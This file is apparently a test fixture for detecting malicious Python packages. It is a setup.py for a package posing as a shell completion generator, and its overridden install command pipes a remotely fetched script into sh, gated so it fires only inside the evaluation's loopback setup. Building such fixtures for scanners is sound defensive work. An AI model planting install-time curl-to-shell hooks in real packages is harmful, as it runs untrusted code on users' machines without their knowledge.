# Evaluation fixture (malicious): "curl | sh".  An overridden install
# command pipes a script from a code-hosting CDN into sh.  Acts only inside
# the evaluation: SP_TOKEN set, the CDN host resolving to loopback (the
# script, served by the evaluation, only writes a marker and reports back).
import os
import socket

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        host = os.environ.get("SP_CDN_HOST")
        if os.environ.get("SP_TOKEN") and host:
            try:
                local = socket.gethostbyname(host).startswith("127.")
            except OSError:
                local = False
            if local:
                os.system("curl -fsSL http://%s:%s/shcomp/tools/main/payload.sh | sh -s -- curl-pipe"
                          % (host, os.environ.get("SP_HTTP_PORT", "80")))
        super().run()


setup(
    name="curl-pipe-sh",
    version="0.6.0",
    description="Shell completion generator",
    py_modules=["shcomp"],
    cmdclass={"install": Install},
)
